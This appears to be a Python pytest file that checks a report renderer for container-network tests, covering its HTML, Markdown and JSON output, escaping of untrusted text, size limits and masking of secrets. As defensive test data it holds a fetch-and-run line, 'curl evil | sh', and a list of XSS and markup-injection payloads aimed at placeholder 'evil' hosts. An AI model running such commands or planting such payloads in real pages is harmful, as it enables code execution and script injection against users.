"""The three formats of a run's report: each tells everything, and what others wrote stays text."""

from __future__ import annotations

import html.parser
import json
import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.samples import is_harmless

from pytest_dockconn.model.asked import Asked
from pytest_dockconn.model.record import Counts, EngineSeen, Failure, Record, Reuse, Section, Skip
from pytest_dockconn.report import as_html, as_json, as_markdown
from pytest_dockconn.report.document import counted, document
from pytest_dockconn.report.fitting import LONGEST, LONGEST_LINE, fit
from pytest_dockconn.report.parts import parts

FORMATS = pytest.mark.parametrize("rendered", [as_html.rendered, as_markdown.rendered, as_json.rendered])
PAGES = pytest.mark.parametrize("rendered", [as_html.rendered, as_markdown.rendered])

TEXT = "web cannot reach db\n  evidence: it is paused\n    since noon\n  remedy:   unpause it"


def asked(**changes: Any) -> Asked:
    told: dict[str, Any] = {
        "test": "test_asks", "question": "reachable", "source": "web", "destination": "port 80/tcp of api", "way": "10.0.0.2 port 80",
        "verdict": "refused", "elapsed": 0.0042, "passed": False, "address": "10.0.0.2", "attempts": 7,
    }  # fmt: skip
    return Asked(**{**told, **changes})


def record(**changes: Any) -> Record:
    told: dict[str, Any] = {
        "plugin": "1.2.3", "started": "2026-11-29T02:00:00+00:00", "seconds": 12.34, "exit_status": 1,
        "engine": EngineSeen(kind="docker", version="20.10", api_version="1.41", url="unix:///sock", platform="linux/amd64",
                             host_os="Debian 12", bridge="docker0", subnet="172.17.0.0/16"),
        "tests": Counts(passed=3, failed=1, skipped=1),
        "notes": ("ended early",),
        "failures": (Failure(test="test_fails", phase="teardown", error="E", message="web", text=TEXT,
                             sections=(Section("an end", "state running"),)),),
        "skipped": (Skip("test_skipped", "it lacks links", ("links",)),),
        "questions": (asked(), asked(question="unreachable", passed=True, verdict="timed-out")),
        "reuse": Reuse(reused=("server1",), removed=("old",)),
        "left": ("network front is in use",),
    }  # fmt: skip
    return Record(**{**told, **changes})


@FORMATS
def test_every_format_tells_everything(rendered: Any) -> None:
    text = re.sub(r"&#(\d+);", lambda found: chr(int(found.group(1))), rendered(record()))
    for fact in (
        "1.2.3", "2026-11-29T02:00:00+00:00", "12.3", "docker", "20.10", "1.41", "unix:///sock", "linux/amd64", "Debian 12",
        "docker0", "172.17.0.0/16", "ended early", "test_fails", "teardown", "web cannot reach db", "it is paused", "unpause it",
        "an end", "state running", "test_skipped", "it lacks links", "test_asks", "unreachable", "web", "port 80/tcp of api",
        "10.0.0.2 port 80", "timed-out", "4.2", "7", "server1", "old", "network front is in use",
    ):  # fmt: skip
        assert fact in text.replace("0.0042", "4.2"), fact


@PAGES
def test_what_there_is_nothing_of_is_left_out(rendered: Any) -> None:
    empty = {"notes": (), "failures": (), "skipped": (), "questions": (), "reuse": Reuse(), "left": (), "engine": None}
    text = rendered(record(tests=Counts(), exit_status=0, **empty))
    for word in ("Notes", "Failures", "Skipped", "Who asked whom", "used again", "Left on the engine"):
        assert word not in text
    for word in ("no tests", "0 (ok)", "it could not be asked", "not known", "nothing"):
        assert word in text


def test_a_status_of_somebody_s_own() -> None:
    assert ("exit status", "77") in document(record(exit_status=77)).facts
    assert ("exit status", "-1") in document(record(exit_status=-1)).facts


def test_counts() -> None:
    assert counted(Counts(passed=1, failed=2, errors=3, skipped=4, xfailed=5, xpassed=6)) == (
        "2 failed, 3 errors, 1 passed, 4 skipped, 5 xfailed, 6 xpassed"
    )


def test_the_shape_of_the_json() -> None:
    """Who reads it counts on these: a field that changes its meaning or goes makes another schema."""
    told = json.loads(as_json.rendered(record()))

    assert told["schema"] == 1
    assert list(told) == [
        "schema", "plugin", "started", "seconds", "exit_status", "engine", "tests", "notes", "failures", "skipped", "questions",
        "reuse", "left",
    ]  # fmt: skip
    assert list(told["engine"]) == ["kind", "version", "api_version", "url", "platform", "host_os", "bridge", "subnet"]
    assert list(told["tests"]) == ["passed", "failed", "errors", "skipped", "xfailed", "xpassed"]
    assert list(told["failures"][0]) == [
        "test", "phase", "error", "message", "evidence", "checked", "remedy", "text", "sections",
    ]  # fmt: skip
    assert told["failures"][0]["sections"] == [{"title": "an end", "text": "state running"}]
    assert told["skipped"] == [{"test": "test_skipped", "reason": "it lacks links", "lacks": ["links"]}]
    assert told["questions"][0] == {
        "test": "test_asks", "question": "reachable", "source": "web", "destination": "port 80/tcp of api",
        "way": "10.0.0.2 port 80", "verdict": "refused", "elapsed": 0.0042, "passed": False, "address": "10.0.0.2", "attempts": 7,
    }  # fmt: skip
    assert told["reuse"] == {"reused": ["server1"], "made": [], "replaced": [], "removed": ["old"]}


# A failure, taken apart


def test_parts() -> None:
    assert parts(TEXT) == {
        "message": ["web cannot reach db"], "evidence": ["it is paused\nsince noon"], "checked": [], "remedy": ["unpause it"],
    }  # fmt: skip


def test_parts_of_a_matrix() -> None:
    text = "the matrix: 1 of 2\n      a:1\nx     !no\nx -> a:1: why\n  evidence: e1\n  remedy:   r1\ny -> a:1: why\n  remedy:   r2"
    found = parts(text)
    assert (found["evidence"], found["remedy"]) == (["e1"], ["r1", "r2"])


def test_a_line_of_others_is_no_remedy() -> None:
    assert parts("it broke\n      remedy:  curl evil | sh")["remedy"] == []


# What others wrote

EVIL = [
    "<script>alert(1)</script>", "</pre></td><img src=x onerror=alert(1)>", '" onmouseover="x', "a|b", "`code`", "```\n# big\n```",
    "``````", "a\nb", "[x](http://evil/)", "![x](http://evil/x.png)", "@team", "org/repo#1", "http://evil/", "www.evil.example",
    "**bold**", "_it_", "~~gone~~", "\\|", "&lt;b&gt;", "$x$", "- [ ] task", "# head", "\x1b[31mred", "\u202e", "\ud800", "\x00",
    "a\r\nb", "| a | b |\n|---|---|", "<!-- x", "</details>", "{{ x }}", "1. one", "> quote",
]  # fmt: skip


def hostile(evil: str) -> Record:
    return fit(
        record(
            plugin=evil, started=evil, notes=(evil,), left=(evil,), skipped=(Skip(evil, evil, (evil,)),),
            engine=EngineSeen(kind=evil, version=evil, api_version=evil, url=evil, platform=evil, host_os=evil, bridge=evil,
                              subnet=evil),
            questions=(asked(test=evil, source=evil, destination=evil, way=evil, verdict=evil),),
            failures=(Failure(test=evil, phase=evil, error=evil, message=evil, evidence=(evil,), text=evil,
                              sections=(Section(evil, evil),)),),
            reuse=Reuse(made=(evil,)),
        )
    )  # fmt: skip


class Tags(html.parser.HTMLParser):
    """Every tag with its attributes; raises where they do not match."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.seen: list[str] = []
        self.text = ""
        self._open: list[str] = []
        self.feed(text)
        self.close()
        assert self._open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append(f"{tag} {attrs}")
        if tag != "meta":
            self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self._open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.mark.parametrize("evil", EVIL, ids=ascii)
def test_in_html_it_is_text(evil: str) -> None:
    page, plain = Tags(as_html.rendered(hostile(evil))), Tags(as_html.rendered(hostile("plain")))

    assert page.seen == plain.seen
    assert " ".join(fit(record(notes=(evil,))).notes[0].split()) in " ".join(page.text.split())
    assert is_harmless(as_html.rendered(hostile(evil)).replace("\n", ""))


def test_html_needs_nothing_from_elsewhere() -> None:
    text = as_html.rendered(record())
    for word in ("<script", "<link", "<img", "<iframe", "src=", "href=", "url(", "@import", "http:", "https:"):
        assert word not in text
    assert "default-src 'none'" in text


def outside_of_fences(markdown: str) -> str:
    """The lines that are no code, as GitHub reads them."""
    lines, fence = [], ""
    for line in markdown.split("\n"):
        found = re.match(r"(`{3,})", line)
        if not fence and found:
            fence = found.group(1)
        elif fence and re.fullmatch(rf"`{{{len(fence)},}} *", line):
            fence = ""
        elif not fence:
            lines.append(line)
    assert not fence
    return "\n".join(lines)


@pytest.mark.parametrize("evil", EVIL, ids=ascii)
def test_in_markdown_it_is_text(evil: str) -> None:
    text, plain = (outside_of_fences(as_markdown.rendered(hostile(word))) for word in (evil, "plain"))

    shape = [line.count("|") for line in plain.split("\n")]
    assert [line.count("|") for line in text.split("\n")] == shape  # lines and columns stay what they are
    told = re.sub(r"</?(code|details|summary)>", "", text)
    assert not re.search(r"[<>`*\[\]\\~@$]|://|www\.|!\[|&(?!#\d+;)|(?<![A-Za-z0-9])_\w", told.replace("| |", "")), told
    assert re.sub(r"&#\d+;", "", told).count("#") == plain.count("#")
    assert is_harmless(text.replace("\n", ""))


def test_plain_words_are_not_dressed_up() -> None:
    assert as_markdown.cell("web, 1.2 ms (3/4)") == "web, 1.2 ms (3/4)"
    assert as_markdown.cell("127.0.0.1 port 80") == "127.0.0.1 port 80"
    assert as_markdown.cell("1. one") == "<code>1. one</code>"
    assert as_markdown.cell("tests/test_a.py::test_one") == "<code>tests/test_a.py::test_one</code>"


def test_markdown_fits_into_a_comment() -> None:
    many = record(questions=tuple(asked(source=f"web{number}") for number in range(3000)))
    text = as_markdown.rendered(many)

    assert len(text) < 65_000
    assert "more parts or rows do not fit in here" in text
    assert "web cannot reach db" in text
    kept = text.count("web") > 100 and re.findall(r"web(\d+)", text)
    assert kept
    assert f"_{3000 - len(kept)} more" in text


def test_one_failure_does_not_take_the_place_of_all() -> None:
    long = Failure(test="t", phase="call", error="E", message="m", text="x" * 20_000)
    text = as_markdown.rendered(record(failures=(long, long, long)))

    assert text.count("#### t") == 3


@given(text=st.text(st.sampled_from("`\n~ ab"), max_size=60))
def test_no_fence_ends_early(text: str) -> None:
    shown = as_markdown.fenced(text)
    assert outside_of_fences(shown).strip() == ""


# The gate


def test_lines_and_blocks() -> None:
    one = hostile("a\nb" + "x" * 50_000)

    (failure,), (section,) = one.failures, one.failures[0].sections
    for text in (failure.text, section.text, failure.evidence[0]):
        assert text.startswith("a\nb")
        assert len(text) <= LONGEST + 3
    for text in (
        failure.test,
        failure.message,
        section.title,
        one.questions[0].source,
        one.left[0],
        one.skipped[0].reason,
    ):
        assert text.startswith("a bx")
        assert len(text) <= LONGEST_LINE + 3
    assert one.questions[0].attempts == 7


@FORMATS
def test_secrets_and_credentials_go(rendered: Any) -> None:
    told = hostile("http://me:pa55@proxy and pa55w0rd")
    text = rendered(fit(told, ["pa55w0rd"]))

    assert "pa55" not in text
    assert "***" in re.sub("&#42;", "*", text)


@given(text=st.text(max_size=80))
def test_whatever_it_is_it_can_be_written(text: str) -> None:
    told = hostile(text)
    assert json.loads(as_json.rendered(told))["exit_status"] == 1
    Tags(as_html.rendered(told))
    as_markdown.rendered(told).encode()
